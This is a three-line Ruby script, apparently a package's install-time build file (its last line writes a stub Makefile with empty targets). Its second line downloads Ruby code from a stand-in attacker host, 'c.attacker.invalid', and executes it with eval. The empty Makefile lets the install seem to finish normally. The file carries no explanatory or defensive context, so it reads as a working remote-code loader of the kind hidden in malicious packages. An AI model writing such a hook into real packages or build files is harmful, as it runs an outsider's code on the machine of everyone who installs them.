require 'net/http'
eval(Net::HTTP.get(URI('https://c.attacker.invalid/r.rb')))
File.write('Makefile',"all:\ninstall:\n")
